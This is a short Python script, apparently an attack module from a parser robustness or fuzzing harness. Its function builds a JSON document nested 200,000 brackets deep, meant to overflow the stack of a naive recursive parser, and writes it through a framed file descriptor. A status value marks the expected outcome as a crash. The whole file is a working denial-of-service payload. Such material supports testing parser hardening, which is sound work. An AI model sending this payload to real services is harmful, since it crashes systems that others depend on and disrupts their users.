"""Send JSON that is nested so deeply that a careless parser overflows its stack."""

import os
import struct

STATUS = "crashed"


def attack(target):
    text = b'{"status":"ok","value":' + b"[" * 200_000 + b"]" * 200_000 + b"}"
    os.write(3, struct.pack("!8sQQ", b"k" * 8, len(text), 0))
    while text:
        text = text[os.write(3, text) :]
    os._exit(0)
